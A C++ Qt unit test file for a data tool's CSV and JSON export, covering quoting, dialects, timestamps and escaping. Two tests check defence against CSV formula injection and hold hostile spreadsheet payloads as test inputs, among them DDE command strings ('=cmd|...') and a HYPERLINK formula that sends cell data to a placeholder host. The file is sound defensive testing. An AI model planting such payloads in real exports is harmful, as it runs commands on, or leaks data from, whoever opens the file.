// SPDX-License-Identifier: GPL-3.0-or-later
#include <QtTest/QtTest>

#include <cmath>
#include <limits>

#include "core/data/column_builder.h"
#include "core/data/table_text.h"

using namespace vitrine;

namespace {

constexpr std::int64_t kTwoOClock = 1469498400 * std::int64_t{1'000'000};  // 2016-07-26T02:00:00Z

/// A table of the rows given, each a value a column.
Batch table(std::string_view ddl, const std::vector<Value::List>& rows) {
    Batch batch;
    batch.schema = std::make_shared<const Schema>(parseDdl(ddl).value());
    batch.numRows = rows.size();
    for (std::size_t index = 0; index < batch.schema->size(); ++index) {
        ColumnBuilder builder((*batch.schema)[index].type);
        for (const Value::List& row : rows) builder.appendValue(row[index]);
        batch.columns.push_back(builder.finish());
    }
    return batch;
}

Value text(const char* characters) { return Value{std::string(characters)}; }
Value window(std::int64_t start, std::int64_t end) { return Value{Value::List{Value{start}, Value{end}}}; }

std::string csv(const Batch& batch, const CsvStyle& dialect = CsvStyle::standard(), const TimeZone& zone = TimeZone()) {
    std::string out;
    appendCsvHeader(out, *batch.schema, dialect);
    for (std::size_t row = 0; row < batch.numRows; ++row) appendCsvRow(out, batch, row, zone, dialect);
    return out;
}

std::string json(const Batch& batch, const TimeZone& zone = TimeZone()) {
    std::string out;
    for (std::size_t row = 0; row < batch.numRows; ++row) {
        appendJsonRow(out, batch, row, zone);
        out += '\n';
    }
    return out;
}

/// Reads RFC 4180 text back: fields of each line; quoted ones are marked with a leading ".
std::vector<std::vector<std::string>> fieldsOf(const std::string& out, char separator, const std::string& lineEnd) {
    std::vector<std::vector<std::string>> lines(1, {""});
    bool quoted = false;
    for (std::size_t at = 0; at < out.size(); ++at) {
        std::string& field = lines.back().back();
        if (quoted) {
            if (out[at] != '"') field += out[at];
            else if (at + 1 < out.size() && out[at + 1] == '"') field += out[++at];
            else quoted = false;
        } else if (out[at] == '"') {
            quoted = true;
        } else if (out[at] == separator) {
            lines.back().emplace_back();
        } else if (out.compare(at, lineEnd.size(), lineEnd) == 0) {
            lines.push_back({""});
            at += lineEnd.size() - 1;
        } else {
            field += out[at];
        }
    }
    lines.pop_back();
    return lines;
}

}  // namespace

class TableTextTest : public QObject {
    Q_OBJECT

  private slots:
    /// RFC 4180: fields with separators, quotes or line ends are quoted, quotes doubled.
    void quoting_RFC4180() {
        const std::vector<std::string> texts = {"plain", "a,b", "say \"x\"", "two\nlines", "two\r\nlines", "\"", ",", " blank ", "été", "a;b", "a\tb", "'"};
        std::vector<Value::List> rows;
        for (const std::string& each : texts) rows.push_back({Value{each}, Value{std::int64_t{1}}});
        const Batch batch = table("t STRING, n BIGINT", rows);
        const std::string out = csv(batch);
        QVERIFY(out.starts_with("t,n\nplain,1\n\"a,b\",1\n\"say \"\"x\"\"\",1\n\"two\nlines\",1\n"));
        for (const CsvStyle& dialect : {CsvStyle::standard(), CsvStyle{';', ',', false, false, "\r\n"}, CsvStyle{'\t', '.', false, false, "\n"}}) {
            const auto lines = fieldsOf(csv(batch, dialect), dialect.separator, std::string(dialect.lineEnd));
            QCOMPARE(lines.size(), texts.size() + 1);
            for (std::size_t index = 0; index < texts.size(); ++index) {
                QCOMPARE(lines[index + 1], (std::vector<std::string>{texts[index], "1"}));
            }
        }
    }

    void nullIsNotEmptyText_CSV1() {
        const Batch batch = table("a STRING, b STRING, n INT", {{Value{}, text(""), Value{}}, {text(""), Value{}, Value{std::int32_t{0}}}});
        QCOMPARE(csv(batch), std::string("a,b,n\n,\"\",\n\"\",,0\n"));
    }

    void structsAreFlattened() {
        const Batch batch = table("window STRUCT<start: TIMESTAMP, end: TIMESTAMP>, action STRING, count BIGINT",
                                  {{window(kTwoOClock, kTwoOClock + 3600 * std::int64_t{1'000'000}), text("Open"), Value{std::int64_t{11}}},
                                   {Value{}, text("Close"), Value{std::int64_t{3}}},
                                   {Value{Value::List{Value{kTwoOClock}, Value{}}}, Value{}, Value{}}});
        QCOMPARE(csv(batch), std::string("window.start,window.end,action,count\n"
                                         "2016-07-26T02:00:00.000Z,2016-07-26T03:00:00.000Z,Open,11\n"
                                         ",,Close,3\n"
                                         "2016-07-26T02:00:00.000Z,,,\n"));
    }

    void structsInStructsAreFlattened() {
        const Batch batch = table("s STRUCT<a: STRUCT<x: INT, y: STRING>, b: ARRAY<INT>>",
                                  {{Value{Value::List{Value{Value::List{Value{std::int32_t{1}}, text("=y")}},
                                                      Value{Value::List{Value{std::int32_t{1}}, Value{}}}}}},
                                   {Value{Value::List{Value{}, Value{}}}}});
        QCOMPARE(csv(batch), std::string("s.a.x,s.a.y,s.b\n1,=y,\"[1,null]\"\n,,\n"));
    }

    /// French spreadsheets: semicolons, decimal commas, CR LF, a byte order mark.
    void excelFrench() {
        const Batch batch = table("a DOUBLE, d DECIMAL(10,2), f FLOAT, n BIGINT, t STRING",
                                  {{Value{1.5}, Value{static_cast<Int128>(1250)}, Value{0.25f}, Value{std::int64_t{-3}}, text("1.5;x")},
                                   {Value{-2.0}, Value{}, Value{std::numeric_limits<float>::infinity()}, Value{}, text("1.5")}});
        QCOMPARE(csv(batch, CsvStyle::excelFrench()), std::string("\xEF\xBB\xBF"
                                                                    "a;d;f;n;t\r\n"
                                                                    "1,5;12,50;0,25;-3;\"1.5;x\"\r\n"
                                                                    "-2,0;;Infinity;;1.5\r\n"));
        // With a decimal comma and a comma as separator a number has to be quoted.
        QCOMPARE(csv(table("a DOUBLE, b INT", {{Value{1.5}, Value{std::int32_t{2}}}}), CsvStyle{',', ',', false, false, "\n"}),
                 std::string("a,b\n\"1,5\",2\n"));
    }

    /// Read back, every dangerous text has an apostrophe before it, in each style for spreadsheets; the exact one has it as it is.
    void E7_exportRunsNoFormula() {
        const std::vector<std::string> formulas = {
            "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x/?\"&A1,\"y\")", "=", "==1", "= 1", "=IMPORTXML(A1)", "=1\n+2", "=é", "=\"\"",
            "+1+1", "+", "+33 1 23", "+A1", "+cmd|x!A0", "++1", "+,1", "+;1", "+\t1", "+\"x\"",
            "-1+1", "-", "-A1", "--1", "-2+3+cmd|x!A0", "-;x", "-,x", "-\nx", "-1", "-1e5",
            "@SUM(1+9)*cmd|x!A0", "@", "@A1", "@@", "@x", "@\"x\"",
            "\t=1", "\tx", "\t", "\r=1", "\rx", "\r\n=1", "\n=1", "\nx", "\n",
            " =1", "   =1", " -1", " @x", " +1",
            "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20A1", " \uFF1D1", "\uFF1D", "\uFF1D\"x\"", "\uFF1D;x", "\uFF1D,x", "\uFF1D\tx"};
        const std::vector<std::string> harmless = {"", "a=1", "a", "1", "1-1", "'=1", "\"=1\"", "a\n=1", "é", "(=1)", "#REF!", "\uFF1C", "a@b.c", "2024-01-01"};
        // Whatever sign the reader separates at: these are one field.
        const std::vector<std::string> behindSeparators = {"x,=1+1", "x;=1+1", "x\t=1+1", "x|=1+1", ",=1", ";@x", "\"x\",=1"};
        QVERIFY(formulas.size() >= 60);
        std::vector<Value::List> rows;
        const auto add = [&rows](const std::vector<std::string>& texts) {
            for (const std::string& each : texts) rows.push_back({Value{each}, Value{-1.5}, Value{std::int32_t{-1}}, Value{static_cast<Int128>(-125)}, Value{std::int32_t{-800'000}}});
        };
        add(formulas);
        add(harmless);
        add(behindSeparators);
        const Batch batch = table("t STRING, d DOUBLE, i INT, m DECIMAL(10,2), old DATE", rows);
        for (const CsvStyle& dialect : {CsvStyle::excelFrench(), CsvStyle::tabSeparated(), CsvStyle{',', '.', false, true, "\n"}}) {
            const std::string out = csv(batch, dialect);
            const auto lines = fieldsOf(out.substr(dialect.byteOrderMark ? 3 : 0), dialect.separator, std::string(dialect.lineEnd));
            QCOMPARE(lines.size(), rows.size() + 1);
            for (std::size_t row = 0; row < rows.size(); ++row) {
                const std::string& sent = rows[row][0].get<std::string>();
                const auto& fields = lines[row + 1];
                QCOMPARE(fields.size(), std::size_t{5});
                QCOMPARE(fields[0], row < formulas.size() ? "'" + sent : sent);
                const std::string point(1, dialect.decimalPoint);
                QCOMPARE(fields[1], "-1" + point + "5");
                QCOMPARE(fields[2], std::string("-1"));
                QCOMPARE(fields[3], "-1" + point + "25");
                QVERIFY(fields[4].starts_with("'-"));   // a year before Christ is no number
            }
            // As one line for programs that know no quotes inside a field: no separator of theirs outside quotes.
            for (const std::string& each : behindSeparators) {
                std::string field;
                for (const char symbol : each) field += symbol == '"' ? std::string("\"\"") : std::string(1, symbol);
                QVERIFY2(out.find("\"" + field + "\"") != std::string::npos, each.c_str());
            }
        }
        const auto exact = fieldsOf(csv(batch), ',', "\n");
        for (std::size_t row = 0; row < rows.size(); ++row) QCOMPARE(exact[row + 1][0], rows[row][0].get<std::string>());
    }

    /// A spreadsheet must not run what a stream sent; numbers and the standard dialect stay as they are.
    void E7_formulasAreNeutralised() {
        std::vector<Value::List> rows;
        for (const char* each : {"=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", ""}) rows.push_back({text(each), Value{std::int32_t{-1}}});
        const Batch batch = table("`=name` STRING, n INT", rows);
        const auto lines = fieldsOf(csv(batch, CsvStyle::tabSeparated()), '\t', "\n");
        const std::vector<std::string> expected = {"'=name", "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", ""};
        for (std::size_t index = 0; index < expected.size(); ++index) {
            QCOMPARE(lines[index], (std::vector<std::string>{expected[index], index == 0 ? "n" : "-1"}));
        }
        QVERIFY(csv(batch, CsvStyle::excelFrench()).find(";-1\r\n") != std::string::npos);
        QVERIFY(csv(batch).starts_with("=name,n\n=1+1,-1\n"));
    }

    /// One object a row, columns in order, timestamps as Spark's JSON writer: always milliseconds, cut off (SK-6).
    void jsonRows_SK6() {
        const Batch batch = table("window STRUCT<start: TIMESTAMP, end: TIMESTAMP>, action STRING, count BIGINT",
                                  {{window(kTwoOClock, kTwoOClock + 1), text("a\"b\\\n\x01é"), Value{std::int64_t{11}}},
                                   {Value{}, Value{}, Value{}}});
        QCOMPARE(json(batch),
                 std::string("{\"window\":{\"start\":\"2016-07-26T02:00:00.000Z\",\"end\":\"2016-07-26T02:00:00.000Z\"},"
                             "\"action\":\"a\\\"b\\\\\\n\\u0001é\",\"count\":11}\n"
                             "{\"window\":null,\"action\":null,\"count\":null}\n"));
    }

    void jsonValues() {
        const Batch batch = table("d DOUBLE, e DOUBLE, f BOOLEAN, g DECIMAL(5,2), h DATE, i ARRAY<INT>, j MAP<STRING, INT>, k BINARY, l TIMESTAMP_NTZ",
                                  {{Value{std::nan("")}, Value{-0.5}, Value{true}, Value{static_cast<Int128>(-5)}, Value{std::int32_t{17008}},
                                    Value{Value::List{Value{std::int32_t{1}}, Value{}}},
                                    Value{Value::List{Value{Value::List{text("x"), Value{std::int32_t{1}}}}}}, text("hi!"), Value{kTwoOClock}}});
        QCOMPARE(json(batch), std::string("{\"d\":\"NaN\",\"e\":-0.5,\"f\":true,\"g\":-0.05,\"h\":\"2016-07-26\",\"i\":[1,null],\"j\":{\"x\":1},"
                                          "\"k\":\"aGkh\",\"l\":\"2016-07-26T02:00:00.000\"}\n"));
    }

    /// A session zone shows in the text of timestamps, never in the rows.
    void timestampsInAZone() {
        const TimeZone paris = TimeZone::find("Europe/Paris").value();
        const Batch batch = table("t TIMESTAMP", {{Value{kTwoOClock}}});
        QCOMPARE(json(batch, paris), std::string("{\"t\":\"2016-07-26T04:00:00.000+02:00\"}\n"));
        QCOMPARE(csv(batch, CsvStyle::standard(), paris), std::string("t\n2016-07-26T04:00:00.000+02:00\n"));
        QCOMPARE(cellText(batch.column(0), 0, paris), std::string("2016-07-26 04:00:00"));
    }

    void invalidUtf8InJson() {
        std::string out;
        appendJsonString(out, "a\xff" "b");
        QCOMPARE(out, std::string("\"a\xEF\xBF\xBD" "b\""));
    }

    /// As CAST(… AS STRING) shows it.
    void cells() {
        const Batch batch = table("w STRUCT<start: TIMESTAMP, n: INT>, a ARRAY<STRING>, m MAP<STRING, INT>, t STRING",
                                  {{Value{Value::List{Value{kTwoOClock}, Value{}}}, Value{Value::List{text("x"), Value{}}},
                                    Value{Value::List{Value{Value::List{text("k"), Value{std::int32_t{1}}}}}}, text("")},
                                   {Value{}, Value{}, Value{}, Value{}}});
        const auto cell = [&](std::size_t column, std::size_t row) { return cellText(batch.column(column), row, TimeZone()); };
        QCOMPARE(cell(0, 0), std::string("{2016-07-26 02:00:00, null}"));
        QCOMPARE(cell(1, 0), std::string("[x, null]"));
        QCOMPARE(cell(2, 0), std::string("{k -> 1}"));
        QCOMPARE(cell(3, 0), std::string());
        for (std::size_t column = 0; column < 4; ++column) QCOMPARE(cell(column, 1), std::string("NULL"));
    }
};

QTEST_APPLESS_MAIN(TableTextTest)
#include "table_text_test.moc"
